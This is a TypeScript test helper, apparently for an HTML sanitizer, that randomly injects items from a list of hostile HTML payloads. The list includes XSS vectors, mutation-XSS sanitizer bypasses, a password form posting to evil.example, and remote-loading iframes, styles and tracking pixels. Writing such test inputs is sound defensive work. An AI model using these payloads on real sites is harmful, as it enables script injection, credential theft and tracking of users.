import { chance, pick, type Random } from "../../seeded-random.ts";

/** Content that no reader may run or fetch. */
const active = [
  "<script>alert(1)</script>",
  '<img src="x" onerror="alert(1)">',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<a href="java\tscript:alert(1)"></a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y.png)}</style>",
  '<div style="background:url(https://evil.example/z.png)"></div>',
  '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<table background="https://evil.example/b.png"><tr><td></td></tr></table>',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
];

/** Picks active content that has no visible text. */
export const pickActiveContent = (random: Random): string =>
  chance(random, 0.5) ? pick(random, active) + pick(random, active) : "";
